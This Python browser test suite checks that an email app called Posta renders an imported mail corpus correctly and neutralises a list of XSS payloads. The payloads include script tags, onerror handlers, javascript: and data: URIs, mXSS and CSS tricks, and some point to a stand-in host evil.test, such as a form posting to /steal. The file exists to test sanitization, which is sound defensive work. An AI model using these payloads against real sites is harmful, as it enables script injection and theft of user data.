"""Every corpus message, imported by the real sync, shown on its task in Chromium.

Cases are grouped on one task per kind (one page load each). An XSS payload
corpus goes through the same path and must run nothing and load nothing from
outside 127.0.0.1.
"""

import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from posta import jobs
from posta.extensions import db
from posta.mail.parse import parse_message
from posta.models import Direction, Message, Role, SendStatus, User, Workspace
from tests.email_support import connect, make_mailbox, make_task
from tests.fixtures.app import PASSWORD

pytestmark = pytest.mark.browser

CORPUS = Path(__file__).parent / "mail"
CASES = sorted(path.stem for path in CORPUS.glob("*.eml"))
CANARY = "Posta canary"
# Each payload calls poke(), alerts, or changes the title if it ever runs; the
# evil.test URLs must never be requested.
XSS_PAYLOADS = {
    "script": "<script>poke('script');alert(1)</script>",
    "onerror": "<img src=x onerror=\"poke('onerror')\">",
    "onload": "<body onload=\"poke('onload')\"><p>hi</p></body>",
    "javascript-href": "<a href=\"javascript:poke('href')\">click</a>",
    "entity-href": "<a href=\"jav&#x09;ascript:poke('entity')\">click</a>",
    "data-href": "<a href=\"data:text/html,<script>poke('data')</script>\">x</a>",
    "iframe": "<iframe src=\"javascript:poke('iframe')\"></iframe>",
    "data-iframe": '<iframe src="data:text/html,<script>alert(2)</script>"></iframe>',
    "svg": "<svg onload=\"poke('svg')\"><script>poke('svg2')</script></svg>",
    "svg-image": '<img src="data:image/svg+xml,<svg onload=alert(3)></svg>">',
    "css-url": "<div style=\"background:url(javascript:poke('css'))\">css</div>",
    "css-remote": '<div style="background-image:url(http://evil.test/bg.png)">b</div>',
    "style-import": "<style>@import 'http://evil.test/x.css';</style><p>s</p>",
    "link": '<link rel="stylesheet" href="http://evil.test/x.css"><p>l</p>',
    "form": '<form action="http://evil.test/steal"><input name="a"><button>go</button>'
    "</form>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "meta-js": '<meta http-equiv="refresh" content="0;url=javascript:poke(\'m\')">',
    "object": "<object data=\"javascript:poke('object')\"></object>",
    "embed": '<embed src="http://evil.test/x.swf">',
    "base": '<base href="http://evil.test/"><img src="pixel.gif">',
    "remote-img": '<img src="http://evil.test/track.gif">',
    "srcset": '<img srcset="http://evil.test/a.png 1x">',
    "mxss": "<math><mtext><table><mglyph><style><img src=x onerror=poke('mxss')>",
    "attribute": "<p title=\"&quot;><img src=x onerror=poke('attr')>\">t</p>",
    "title": f"<script>document.title='{CANARY}'</script><p>t</p>",
    "video": "<video><source onerror=\"poke('video')\"></video>",
}


def seed(live_server, dovecot, smtp):
    """Create the workspace, a member, their mailbox and account."""
    with live_server.app.app_context():
        db.session.add(Workspace(name="Acme", email_enabled=True))
        member = User(email="mara@example.test", name="Mara", role=Role.MEMBER)
        member.set_password(PASSWORD)
        db.session.add(member)
        db.session.commit()
        mailbox = make_mailbox(dovecot, smtp, "mara")
        return mailbox, connect(member, mailbox).id


def task_with_sent_email(name: str, account_id: int) -> tuple[int, str]:
    """Return a new task and the Message-ID of an email sent from it."""
    task = make_task(name)
    sent_id = f"<sent-{task.id}@posta.test>"
    db.session.add(
        Message(
            account_id=account_id,
            task_id=task.id,
            direction=Direction.OUT.value,
            message_id=sent_id,
            dedupe_key=sent_id,
            subject=name,
            from_addr="mara@posta.test",
            to_addrs="ann@example.test",
            status=SendStatus.SENT.value,
        )
    )
    db.session.commit()
    return task.id, sent_id


def replying(raw: bytes, parent_id: str) -> bytes:
    """Return the raw message with a References header naming parent_id first."""
    newline = b"\r\n" if b"\r\n" in raw[:500] else b"\n"
    return b"References: " + parent_id.encode() + newline + raw


def xss_message(name: str, payload: str, parent_id: str) -> bytes:
    """Return an HTML email carrying one payload, in its text part too."""
    return (
        f"From: Eve <eve-{name}@example.test>\r\n"
        "To: mara@posta.test\r\n"
        f"Subject: XSS {name} <img src=x onerror=poke('subject')>\r\n"
        f"Message-ID: <xss-{name}@example.test>\r\n"
        f"In-Reply-To: {parent_id}\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b"\r\n\r\n'
        '--b\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n'
        f"Payload {name}: <script>poke('text')</script>\r\n"
        '--b\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n'
        f"<p>Payload {name}</p>{payload}\r\n--b--\r\n"
    ).encode()


class Watch:
    """Record every sign of script execution or of a request leaving loopback."""

    def __init__(self, page):
        self.calls, self.dialogs, self.console, self.outside = [], [], [], []
        self.responses: dict[str, int] = {}
        context = page.context
        context.route("**/*", self._route)
        context.expose_binding("poke", lambda source, what: self.calls.append(what))
        page.on("dialog", self._dialog)
        page.on("console", lambda msg: self.console.append(msg.text))
        page.on("response", lambda r: self.responses.__setitem__(r.url, r.status))

    def _route(self, route):
        host = urlsplit(route.request.url).hostname
        if host == "127.0.0.1" or route.request.url.startswith(("data:", "about:")):
            route.continue_()
        else:
            self.outside.append(route.request.url)
            route.abort()

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def assert_quiet(self):
        assert self.calls == []
        assert self.dialogs == []
        assert self.outside == []
        assert not [line for line in self.console if "poke" in line]


def log_in(page, url):
    page.goto(url + "/login")
    page.fill("input[name=email]", "mara@example.test")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_load_state()


def load_task(page, url, task_id):
    """Open a task page and make every email iframe load (they are lazy)."""
    page.goto(f"{url}/tasks/{task_id}")
    for frame in page.locator("iframe.email-html").all():
        frame.scroll_into_view_if_needed()
    page.wait_for_load_state("networkidle")


def frame_text(page, message_id) -> str:
    frame = page.frame(name=f"email-body-{message_id}")
    assert frame is not None and frame.url.endswith(f"/messages/{message_id}/body")
    frame.wait_for_load_state()
    return frame.evaluate("() => document.body.innerText")


def squash(text: str) -> str:
    return " ".join(text.split())


def expected_for(name: str, raw: bytes) -> dict:
    """Return what the page must show: the case's .json, else what parse gives."""
    want = json.loads((CORPUS / f"{name}.json").read_text(encoding="utf-8"))
    parsed = parse_message(raw)
    first_line = next((line for line in parsed.text.splitlines() if line.strip()), "")
    return {
        "subject": want.get("subject", parsed.subject),
        "from_addr": want.get("from_addr", parsed.from_addr),
        "from_name": want.get("from_name", parsed.from_name),
        "text": want.get("text_contains") or ([first_line[:40]] if first_line else []),
        "files": [a.filename for a in parsed.attachments if not a.inline],
        "inline": [a.filename for a in parsed.attachments if a.inline],
        "auto_kind": parsed.auto_kind,
        "html": parsed.html is not None,
        "remote_images": parsed.has_remote_images,
    }


def test_every_corpus_case_shows_on_its_task(live_server, page, dovecot, smtp):
    mailbox, account_id = seed(live_server, dovecot, smtp)
    expected, keys, task_of_kind = {}, {}, {}
    with live_server.app.app_context():
        for name in CASES:
            kind = name.split("-")[0]
            if kind not in task_of_kind:
                task_of_kind[kind] = task_with_sent_email(f"Corpus {kind}", account_id)
            raw = replying((CORPUS / f"{name}.eml").read_bytes(), task_of_kind[kind][1])
            expected[name] = expected_for(name, raw)
            keys[name] = parse_message(raw).dedupe_key
            mailbox.dovecot.deliver(mailbox.address, raw)
        jobs.sync_account(account_id)
        stored = dict(
            db.session.execute(
                db.select(Message.dedupe_key, Message.id).where(
                    Message.direction == Direction.IN
                )
            ).all()
        )
    assert sorted(stored) == sorted(keys.values())
    watch = Watch(page)
    log_in(page, live_server.url)

    for kind, (task_id, _) in task_of_kind.items():
        load_task(page, live_server.url, task_id)
        for name in [n for n in CASES if n.startswith(f"{kind}-")]:
            check_case(page, expected[name], stored[keys[name]])
    watch.assert_quiet()
    inline = [url for url in watch.responses if "/inline?t=" in url]
    assert len(inline) == sum(len(want["inline"]) for want in expected.values())
    assert all(watch.responses[url] == 200 for url in inline)


def check_case(page, want: dict, message_id: int) -> None:
    """Check one message's subject, sender, text, files and badges on the page."""
    item = page.locator(f"#message-{message_id}")
    assert item.locator(".email-subject").text_content() == want["subject"]
    sender = item.locator(".email-headers dd").first.text_content()
    assert want["from_addr"] in sender
    assert want["from_name"] in sender
    assert "Linked because it replies to an email on this task" in item.inner_text()
    shown = squash(item.text_content())
    if want["html"]:
        shown += " " + squash(frame_text(page, message_id))
    for snippet in want["text"]:
        assert squash(snippet) in shown, snippet
    files = item.locator(".email-attachments a").all_inner_texts()
    assert files == want["files"]
    badges = item.locator(".meta .badge").all_inner_texts()
    badge = {"auto_reply": ["Automatic reply"], "bounce": ["Delivery failure"]}
    assert badges == badge.get(want["auto_kind"], [])
    assert item.locator("a.show-images").count() == int(want["remote_images"])
    if want["inline"]:
        frame = page.frame(name=f"email-body-{message_id}")
        sources = frame.eval_on_selector_all("img", "els => els.map(e => e.src)")
        assert sources and all(
            re.search(r"/attachments/\d+/inline\?t=", s) for s in sources
        )


def test_xss_payloads_execute_nothing(live_server, page, dovecot, smtp):
    mailbox, account_id = seed(live_server, dovecot, smtp)
    with live_server.app.app_context():
        task_id, sent_id = task_with_sent_email("XSS corpus", account_id)
        for name, payload in XSS_PAYLOADS.items():
            mailbox.dovecot.deliver(
                mailbox.address, xss_message(name, payload, sent_id)
            )
        jobs.sync_account(account_id)
        ids = db.session.scalars(
            db.select(Message.id).where(Message.direction == Direction.IN)
        ).all()
    assert len(ids) == len(XSS_PAYLOADS)
    watch = Watch(page)
    log_in(page, live_server.url)
    load_task(page, live_server.url, task_id)
    # Give timers, refreshes and error handlers a moment to fire if they could.
    page.wait_for_timeout(500)

    assert page.title().startswith("XSS corpus")
    assert page.evaluate("() => document.title") != CANARY
    for message_id in ids:
        frame = page.frame(name=f"email-body-{message_id}")
        assert frame is not None
        assert frame.evaluate("() => document.title") != CANARY
        assert frame.url.endswith(f"/messages/{message_id}/body")
        assert frame.evaluate("() => document.querySelectorAll('script').length") == 0
        hrefs = frame.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
        assert not [h for h in hrefs if not h.startswith(("http", "mailto"))]
    for name in XSS_PAYLOADS:
        assert page.get_by_text(f"Payload {name}:").count() == 1
    # The subject's and text part's markup shows as text, never as elements.
    assert page.locator("img[onerror]").count() == 0
    texts = page.locator(".body-text").all_text_contents()
    assert sum("<script>poke('text')</script>" in text for text in texts) == len(ids)
    subjects = page.locator("[data-direction=in] .email-subject").all_text_contents()
    assert len(subjects) == len(ids)
    assert all("<img src=x onerror=poke('subject')>" in text for text in subjects)
    watch.assert_quiet()
    # The probes themselves work: a call, a dialog and a request to elsewhere.
    page.evaluate(
        "() => { poke('control'); alert('control');"
        " return fetch('http://evil.test/x').catch(() => 0) }"
    )
    assert (watch.calls, watch.dialogs) == (["control"], ["control"])
    assert watch.outside == ["http://evil.test/x"]
